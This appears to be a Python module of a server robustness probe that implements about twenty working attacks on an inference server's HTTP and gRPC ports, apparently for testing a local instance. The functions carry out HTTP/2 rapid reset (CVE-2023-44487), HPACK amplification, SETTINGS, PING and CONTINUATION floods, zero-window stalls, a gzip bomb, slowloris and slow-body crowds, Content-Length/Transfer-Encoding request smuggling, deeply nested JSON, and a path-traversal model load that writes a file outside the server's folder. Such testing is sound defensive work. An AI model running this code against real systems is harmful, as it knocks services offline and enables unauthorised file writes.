"""The attacks of scripts/attack_probe.py (issue 25's table), one function each.

Every attack takes a Target and a deadline, keeps its own memory bounded (payloads are
built once and sent again), closes every connection it opened before it returns, and
returns a dict whose "fate" says what the server did to the attacker; the other keys
are details for the JSON."""

from __future__ import annotations

import os
import shutil
import tempfile
import time
import uuid
from collections import Counter
from dataclasses import dataclass, field
from typing import Callable

import attack_wire as w
from attack_peer import Crowd, H2Peer, Peer, raise_fd_limit


@dataclass
class Target:
    """Where and what to attack, and what the server allows (found before the run)."""

    host: str
    http: int
    grpc: int
    model: str = "identity_fp32"
    explicit: bool | None = None    # --model-control-mode=explicit
    client_shm: bool | None = None  # client shared-memory registration allowed
    scale: float = 1.0              # connection counts x scale (a smoke run's 0.1)

    def n(self, count: int) -> int:
        return max(1, int(count * self.scale))


def _fate(*parts: str) -> str:
    return "; ".join(p for p in parts if p) or "no reaction"


def _h2(t: Target, until: float, values: dict | None = None, refill: bool = True,
        read: bool = True) -> H2Peer:
    p = H2Peer(t.host, t.grpc, refill=refill)
    p.start(values, until)
    if read:
        p.wait_settings(min(until, time.monotonic() + 1.0))
    return p


def _settle_reads(p: H2Peer, seconds: float = 0.3) -> None:
    """Read what the server still says (a late GOAWAY) before the attack's close."""
    end = time.monotonic() + seconds
    while not p.closed and time.monotonic() < end:
        p.pump(min(0.05, end - time.monotonic()))


# --------------------------------------------------------------------- HTTP/2 floods

def rapid_reset(t: Target, until: float) -> dict:
    """HEADERS then RST_STREAM(CANCEL), over and over (CVE-2023-44487)."""
    p = _h2(t, until)
    block, streams, batch = w.request_block(p.authority), 0, 100
    try:
        while not p.closed and not p.goaway and time.monotonic() < until:
            buf = b"".join(w.frame(w.HEADERS, w.END_HEADERS, sid, block) + w.rst_stream(sid)
                           for sid in (p.new_sid() for _ in range(batch)))
            if p.send(buf, until) < len(buf):
                break
            streams += batch
            p.pump(0)
        _settle_reads(p)
        return {"fate": _fate(f"{streams:,} streams opened and reset", *p.fate_parts()),
                "streams": streams, "goaway": _goaway(p), "closed_at": p.closed_at}
    finally:
        p.close()


def hpack_amplification(t: Target, until: float) -> dict:
    """One ~4 KB field put in the dynamic table, then header blocks that reference it
    4,000 times each (about 16 MB decoded per block of 4 KB)."""
    p = _h2(t, until)
    try:
        entry, entry_size = w.amplification_entry(
            p.server_settings.get(w.HEADER_TABLE_SIZE, 4096))
        refs = w.hp_indexed(62) * 4000  # 62: the newest dynamic-table entry
        base = w.request_block(p.authority)
        blocks = 0
        first = True
        while not p.closed and not p.goaway and time.monotonic() < until:
            if len(p.open_sids) >= min(100, p.max_streams):
                p.pump(0.02)  # keep within the server's stream limit
                continue
            block = base + (entry if first else b"") + refs
            if not p.headers(p.new_sid(), block, until, end_stream=True):
                break
            first = False
            blocks += 1
            p.pump(0)
        _settle_reads(p)
        answers = _answers(p)
        return {"fate": _fate(f"{blocks:,} blocks sent (each {4000 * entry_size / 1e6:.0f} "
                              "MB decoded)", answers, *p.fate_parts()),
                "blocks": blocks, "goaway": _goaway(p)}
    finally:
        p.close()


def _control_flood(t: Target, until: float, one: bytes, what: str) -> dict:
    """Control frames as fast as the socket takes them; the answers are never read."""
    p = _h2(t, until, read=False)
    batch = one * 1000
    frames = 0
    try:
        while not p.closed and time.monotonic() < until:
            sent = p.send(batch, until)
            frames += sent // len(one)
            if sent < len(batch):
                break
        # what came back, read only now and only briefly (the ACKs first)
        end = time.monotonic() + 1.0
        while not p.closed and time.monotonic() < end and p.received < 256 << 20:
            p.pump(0.05, limit=4 << 20)
            if p.goaway:
                break
        return {"fate": _fate(f"{frames:,} {what} sent, unread", *p.fate_parts()),
                "frames": frames, "stall_at": p.stall_at, "goaway": _goaway(p)}
    finally:
        p.close()


def settings_flood(t: Target, until: float) -> dict:
    return _control_flood(t, until, w.settings({w.INITIAL_WINDOW_SIZE: 65535}), "SETTINGS")


def ping_flood(t: Target, until: float) -> dict:
    return _control_flood(t, until, w.ping(b"attack!!"), "PINGs")


def zero_window(t: Target, until: float, count: int = 2000) -> dict:
    """INITIAL_WINDOW_SIZE 0 and the connection window never opened, then requests
    whose 1 MiB outputs the server can never send."""
    p = _h2(t, until, {w.INITIAL_WINDOW_SIZE: 0}, refill=False)
    msg = w.grpc_message(w.model_infer_request(t.model, "INPUT0", [1, 262144],
                                               bytes(1 << 20)))
    block = w.request_block(p.authority)
    sent = capped = 0
    try:
        while sent < count and not p.closed and not p.goaway and \
                time.monotonic() < until:
            if len(p.open_sids) >= p.max_streams:
                capped = max(capped, p.max_streams)
                p.pump(0.05)
                continue
            sid = p.new_sid()
            if not p.headers(sid, block, until):
                break
            if p.body(sid, msg, until) < len(msg):
                break
            sent += 1
        _settle_reads(p)
        parts = [f"{sent:,} requests sent ({sent * len(msg) / 2**20:,.0f} MiB)",
                 f"{p.http_status.get('200', 0):,} answers begun, "
                 f"{p.ended_count:,} ended"]
        if capped:
            parts.append(f"held at {capped} streams (MAX_CONCURRENT_STREAMS)")
        return {"fate": _fate(*parts, *p.fate_parts()), "sent": sent,
                "ended": p.ended_count, "goaway": _goaway(p)}
    finally:
        p.close()


def stream_pipeline(t: Target, until: float) -> dict:
    """One ModelStreamInfer stream, [1,16] requests sent as fast as the server's
    windows allow, never ending, with our windows at 0: no answer is ever read."""
    p = _h2(t, until, {w.INITIAL_WINDOW_SIZE: 0}, refill=False)
    msg = w.grpc_message(w.model_infer_request(t.model, "INPUT0", [1, 16], bytes(64)))
    burst = msg * 1000
    sid = p.new_sid()
    sent = 0
    shut = False
    try:
        if p.headers(sid, w.request_block(p.authority, w.STREAM_PATH), until):
            while not p.closed and not p.goaway and time.monotonic() < until:
                done = p.body(sid, burst, until, end_stream=False)
                sent += done
                if done < len(burst):
                    shut = time.monotonic() >= until and not p.closed
                    break
        _settle_reads(p)
        parts = [f"{sent // len(msg):,} requests sent ({sent / 2**20:,.1f} MiB)"]
        if shut:
            parts.append("held: the stream window shut")
        return {"fate": _fate(*parts, *p.fate_parts()), "sent": sent // len(msg),
                "held": shut, "goaway": _goaway(p)}
    finally:
        p.close()


def continuation_flood(t: Target, until: float) -> dict:
    """HEADERS without END_HEADERS, then CONTINUATION frames of valid fields, endlessly."""
    p = _h2(t, until)
    filler = w.hp_literal("x-c", "b" * 16000)
    try:
        sid = p.new_sid()
        p.send(w.frame(w.HEADERS, 0, sid, w.request_block(p.authority)), until)
        frames = 0
        while not p.closed and not p.goaway and time.monotonic() < until:
            one = w.frame(w.CONTINUATION, 0, sid, filler)
            if p.send(one, until) < len(one):
                break
            frames += 1
            p.pump(0)
        _settle_reads(p)
        return {"fate": _fate(f"{frames:,} CONTINUATION frames "
                              f"({frames * len(filler) / 1e6:,.0f} MB)", *p.fate_parts()),
                "frames": frames, "goaway": _goaway(p)}
    finally:
        p.close()


# ------------------------------------------------------------------ gRPC messages

def _unary(t: Target, until: float, message: bytes, path: str = w.INFER_PATH,
           extra: list = (), prefix: bytes | None = None, count: int = 1,
           gap: float = 0.0, end_stream: bool = True) -> dict:
    """`count` gRPC calls on one connection (each with `message`, or `prefix` and then
    `message` as body bytes; the stream left open without `end_stream`), then wait
    for their answers until the deadline."""
    p = _h2(t, until)
    t_sent = []
    try:
        for _ in range(count):
            if p.closed or p.goaway or time.monotonic() >= until:
                break
            sid = p.new_sid()
            if not p.headers(sid, w.request_block(p.authority, path, extra), until,
                             watch=True):
                break
            t_sent.append(p.elapsed())
            body = (prefix or b"") + message
            p.body(sid, body, until, end_stream=end_stream)
            if gap:
                p.pump(gap)
        while not p.closed and time.monotonic() < until and \
                len(p.ended) < len(t_sent):
            p.pump(0.05)
        outcomes = Counter(o for _, o in p.ended.values())
        times = [e for e, _ in p.ended.values()]
        parts = []
        if outcomes:
            said = ", ".join(f"{o} x{n}" if n > 1 else o
                             for o, n in outcomes.most_common(3))
            if len(t_sent) == 1:  # one call: how long its answer took
                said += f" in {max(times) - t_sent[0]:.2f}s"
            parts.append(said)
        unanswered = len(t_sent) - len(p.ended)
        if unanswered:
            parts.append(f"{unanswered} unanswered after {p.elapsed():.1f}s")
        return {"fate": _fate(*parts, *p.fate_parts()), "calls": len(t_sent),
                "outcomes": dict(outcomes), "unanswered": unanswered, "goaway": _goaway(p)}
    finally:
        p.close()


def grpc_4gib_prefix(t: Target, until: float) -> dict:
    """Calls whose length prefix says 4 GiB, followed by 16 KiB and then silence (the
    stream stays open: only the prefix can tell the server to refuse)."""
    return _unary(t, until, bytes(16384), prefix=w.grpc_prefix(0xFFFFFFFF), count=20,
                  gap=0.1, end_stream=False)


def grpc_zeros(t: Target, until: float) -> dict:
    """A ModelInfer message of 16 MiB of zero bytes (field number 0 throughout)."""
    return _unary(t, until, w.grpc_message(bytes(16 << 20)))


_GZIP_BOMB: dict[int, bytes] = {}


def gzip_bomb_payload(inflated: int = 1 << 30) -> bytes:
    if inflated not in _GZIP_BOMB:
        _GZIP_BOMB[inflated] = w.gzip_of_zeros(inflated)
    return _GZIP_BOMB[inflated]


def grpc_gzip_bomb(t: Target, until: float) -> dict:
    """grpc-encoding gzip, a ~1 MiB message that inflates to 1 GiB of zeros."""
    bomb = gzip_bomb_payload()
    r = _unary(t, until, w.grpc_message(bomb, compressed=True),
               extra=[("grpc-encoding", "gzip"), ("grpc-accept-encoding", "gzip")])
    r["gzip_bytes"] = len(bomb)
    return r


def load_traversal(t: Target, until: float) -> dict:
    """RepositoryModelLoad with `file:` contents and a model name that leaves the
    server's temporary folder ("../x" and an absolute path); then look whether the
    file landed there (a local server; it is removed again)."""
    tmp = tempfile.gettempdir()
    tries = [("../", f"../attack-probe-{uuid.uuid4().hex[:12]}"),
             ("absolute", os.path.join(tmp, f"attack-probe-{uuid.uuid4().hex[:12]}"))]
    parts, written = [], []
    for label, name in tries:
        msg = w.model_load_request(name, '{"backend": "python"}',
                                   {"file:1/model.py": b"# scripts/attack_probe\n"})
        # each name gets its answer (a load may take seconds), however short the window
        r = _unary(t, max(until, time.monotonic() + 5.0), w.grpc_message(msg),
                   path=w.LOAD_PATH)
        where = os.path.join(tmp, os.path.basename(name))
        wrote = os.path.exists(where)
        if wrote:
            written.append(where)
            shutil.rmtree(where, ignore_errors=True)
        parts.append(f"{label}: {r['fate']}" + ("; WROTE the file there" if wrote else ""))
    return {"fate": "; ".join(parts) + ("" if written else "; nothing written"),
            "written": written}


# -------------------------------------------------------------------- crowds

def idle_connections(t: Target, until: float, count: int = 3000) -> dict:
    """Connections that send nothing, half to each port."""
    raise_fd_limit(count + 256)
    c = Crowd(t.host, until)
    try:
        n = t.n(count)
        opened = c.open(t.http, n // 2) + c.open(t.grpc, n - n // 2, h2=True)
        c.run()
        return {"fate": c.fate(opened), "opened": opened,
                "closed": len(c.closed_times)}
    finally:
        c.close()


_SLOW_HEAD = (b"POST /v2/models/identity_fp32/infer HTTP/1.1\r\nHost: 127.0.0.1\r\n"
              + b"X-Slow: a\r\n" * 10000)


def slowloris(t: Target, until: float, count: int = 1000) -> dict:
    """HTTP/1.1 headers, one byte per connection every half second."""
    raise_fd_limit(count + 256)
    c = Crowd(t.host, until)
    try:
        opened = c.open(t.http, t.n(count), dribble=_SLOW_HEAD, interval=0.5)
        c.run()
        return {"fate": c.fate(opened), "opened": opened, "closed": len(c.closed_times)}
    finally:
        c.close()


def slow_body(t: Target, until: float, count: int = 1000) -> dict:
    """Complete headers announcing a 1 MiB body, then one body byte every half second."""
    raise_fd_limit(count + 256)
    body = w.infer_json([1, 16])
    head = w.http_request("POST", f"/v2/models/{t.model}/infer",
                          [("Content-Type", "application/json"),
                           ("Content-Length", str(1 << 20))])
    c = Crowd(t.host, until)
    try:
        opened = c.open(t.http, t.n(count), first=head, dribble=body, interval=0.5)
        c.run()
        return {"fate": c.fate(opened), "opened": opened, "closed": len(c.closed_times)}
    finally:
        c.close()


def announced_body(t: Target, until: float, count: int = 16) -> dict:
    """Connections that announce a 64 MiB body (HTTP Content-Length, or a gRPC length
    prefix), send one byte of it and go quiet."""
    big = 64 << 20
    http = w.http_request("POST", f"/v2/models/{t.model}/infer",
                          [("Content-Type", "application/json"),
                           ("Content-Length", str(big))], b"{")
    h2 = (w.PREFACE + w.settings() + w.frame(w.HEADERS, w.END_HEADERS, 1,
                                               w.request_block(f"{t.host}:{t.grpc}"))
          + w.frame(w.DATA, 0, 1, w.grpc_prefix(big) + b"\0"))
    c = Crowd(t.host, until)
    try:
        opened = c.open(t.http, count // 2, first=http)
        opened += c.open(t.grpc, count - count // 2, h2=True, first=h2)
        c.run()
        return {"fate": c.fate(opened), "opened": opened, "closed": len(c.closed_times)}
    finally:
        c.close()


def unfinished_headers(t: Target, until: float, count: int = 200) -> dict:
    """HTTP/2 connections that each send a 1 MB header block and never end it."""
    raise_fd_limit(count + 256)
    filler = w.hp_literal("x-u", "c" * 16000)
    auth = f"{t.host}:{t.grpc}"
    script = (w.PREFACE + w.settings() + w.frame(w.HEADERS, 0, 1, w.request_block(auth))
              + w.frame(w.CONTINUATION, 0, 1, filler) * 64)
    c = Crowd(t.host, until)
    try:
        opened = c.open(t.grpc, t.n(count), h2=True, dribble=script, interval=0.01,
                        per_send=1 << 20)
        c.run()
        return {"fate": c.fate(opened), "opened": opened, "closed": len(c.closed_times)}
    finally:
        c.close()


# -------------------------------------------------------------- HTTP/1.1 framing

def http_exchange(host: str, port: int, raw: bytes, timeout: float = 2.0,
                  linger: float = 0.3) -> str:
    """Send one request and classify the answer: '400+close', '400 kept open',
    'closed, no answer', 'no answer in 2.0s', 'reset'."""
    try:
        p = Peer(host, port, connect_timeout=timeout)
    except OSError as exc:
        return f"connect failed ({exc.__class__.__name__})"
    try:
        end = time.monotonic() + timeout
        p.send(raw, end)
        got = b""
        while not p.closed and time.monotonic() < end and b"\r\n" not in got:
            p.wait_readable(end - time.monotonic())
            got += p.recv(1 << 16)
        status = w.parse_status_line(got)
        if status is None:
            if p.closed:
                return "reset" if p.how_closed == "reset" else "closed, no answer"
            return f"no answer in {timeout:g}s"
        # does the server close after answering? (the rest of the answer is drained)
        end = time.monotonic() + linger
        while not p.closed and time.monotonic() < end:
            p.wait_readable(end - time.monotonic())
            p.recv(1 << 20)
        return f"{status}+close" if p.closed else f"{status} kept open"
    finally:
        p.close()


def _variants(t: Target, until: float, variants: list[tuple[str, bytes]],
              port: int | None = None, gap: float = 0.05, timeout: float = 1.0) -> dict:
    """Each variant in turn, again and again until the deadline (and each at least
    once, however short the window: `timeout` bounds each); outcomes counted."""
    seen = Counter()
    i = 0
    while time.monotonic() < until or i < len(variants):
        label, raw = variants[i % len(variants)]
        seen[(label, http_exchange(t.host, port or t.http, raw, timeout=timeout))] += 1
        i += 1
        time.sleep(gap)
    by_label: dict[str, list[str]] = {}
    for (label, outcome), n in seen.items():
        by_label.setdefault(label, []).append(f"{outcome} x{n}")
    return {"fate": "; ".join(f"{k}: {', '.join(v)}" for k, v in by_label.items()),
            "outcomes": {f"{k}: {o}": n for (k, o), n in seen.items()}}


def _infer_req(t: Target, headers: list, body: bytes) -> bytes:
    return w.http_request("POST", f"/v2/models/{t.model}/infer",
                          [("Content-Type", "application/json")] + headers, body)


def cl_te(t: Target, until: float) -> dict:
    """Content-Length and Transfer-Encoding: chunked together (request smuggling)."""
    body = w.infer_json([1, 16])
    chunked = f"{len(body):x}\r\n".encode() + body + b"\r\n0\r\n\r\n"
    return _variants(t, until, [
        ("CL+TE", _infer_req(t, [("Content-Length", str(len(body))),
                                 ("Transfer-Encoding", "chunked")], chunked))])


def bad_content_length(t: Target, until: float) -> dict:
    body = w.infer_json([1, 16])
    n = len(body)
    return _variants(t, until, [
        ("duplicate", _infer_req(t, [("Content-Length", str(n)),
                                     ("Content-Length", str(n + 5))], body)),
        ("negative", _infer_req(t, [("Content-Length", "-1")], body))])


def malformed_chunked(t: Target, until: float) -> dict:
    body = w.infer_json([1, 16])
    te = [("Transfer-Encoding", "chunked")]
    return _variants(t, until, [
        ("bad size", _infer_req(t, te, b"zz\r\n" + body + b"\r\n0\r\n\r\n")),
        ("2^64 size", _infer_req(t, te, b"10000000000000000\r\n" + body)),
        ("bare LF in extension", _infer_req(
            t, te, f"{len(body):x};ext\n".encode() + body + b"\r\n0\r\n\r\n"))])


def deep_json(t: Target, until: float, depth: int = 100_000) -> dict:
    """JSON nested 100,000 deep to repository load and to shm register (the model
    named does not exist, so a parser that copes loads nothing)."""
    doc = w.deep_json(depth)
    hdr = [("Content-Type", "application/json"), ("Content-Length", str(len(doc)))]
    r = _variants(t, until, [
        ("load", w.http_request("POST", "/v2/repository/models/attack-probe-absent/load",
                                hdr, doc)),
        ("shm register", w.http_request(
            "POST", "/v2/systemsharedmemory/region/attack-probe/register", hdr, doc))],
        gap=0.1)
    return r


def _goaway(p: H2Peer) -> dict | None:
    if not p.goaway:
        return None
    t, last, code, debug = p.goaway
    return {"t": round(t, 3), "last_stream": last, "code": w.error_name(code),
            "debug": debug.decode(errors="replace")}


def _answers(p: H2Peer) -> str:
    parts = [f"grpc-status {k} x{v}" for k, v in p.grpc_status.most_common(2)]
    parts += [f":status {k} x{v}" for k, v in p.http_status.most_common(2) if k != "200"]
    return ", ".join(parts)


# ---------------------------------------------------------------------- registry

@dataclass(frozen=True)
class Case:
    """One row of the table."""

    name: str
    label: str
    run: Callable[[Target, float], dict]
    short: bool = False                 # a probe, not a flood: half the window
    needs: tuple[str, ...] = ()         # "explicit", "client_shm": n/a without
    prepare: Callable[[], object] | None = None
    note: str = field(default="", compare=False)


CASES = [
    Case("rapid-reset", "rapid reset (HEADERS + RST_STREAM)", rapid_reset),
    Case("hpack-amplification", "HPACK amplification (4 KB entry x 4,000 refs)",
         hpack_amplification),
    Case("settings-flood", "SETTINGS flood, ACKs never read", settings_flood),
    Case("ping-flood", "PING flood, ACKs never read", ping_flood),
    Case("zero-window", "zero window, 2,000 x 1 MiB outputs", zero_window),
    Case("stream-pipeline", "a stream pipelining requests, no answer read",
         stream_pipeline),
    Case("continuation-flood", "CONTINUATION flood", continuation_flood),
    Case("grpc-4gib-prefix", "gRPC length prefix 4 GiB", grpc_4gib_prefix, short=True),
    Case("idle-connections", "3,000 idle connections", idle_connections),
    Case("slowloris", "1,000 slowloris senders", slowloris),
    Case("cl-te", "Content-Length + Transfer-Encoding", cl_te, short=True),
    Case("bad-content-length", "duplicate / negative Content-Length",
         bad_content_length, short=True),
    Case("grpc-zeros", "gRPC ModelInfer of 16 MiB zero bytes", grpc_zeros),
    Case("grpc-gzip-bomb", "gRPC gzip, 1 MiB inflating to 1 GiB", grpc_gzip_bomb,
         prepare=gzip_bomb_payload),
    Case("announced-body", "16 x announced 64 MiB body, 1 byte sent", announced_body),
    Case("slow-body", "1,000 slow-body connections", slow_body),
    Case("unfinished-headers", "200 x unfinished 1 MB header blocks", unfinished_headers),
    Case("malformed-chunked", "malformed chunked bodies", malformed_chunked, short=True),
    Case("deep-json", "deep JSON to load / shm register", deep_json, short=True),
    Case("load-traversal", "model name ../ or absolute in a gRPC load", load_traversal,
         short=True, needs=("explicit",)),
]
BY_NAME = {c.name: c for c in CASES}


def select(names: str | None) -> list[Case]:
    """'--cases a,b' (in the table's order), or all."""
    if not names:
        return list(CASES)
    wanted = [n.strip() for n in names.split(",") if n.strip()]
    unknown = [n for n in wanted if n not in BY_NAME]
    if unknown:
        raise ValueError(f"unknown case(s) {', '.join(unknown)}; known: "
                         + ", ".join(BY_NAME))
    return [c for c in CASES if c.name in wanted]
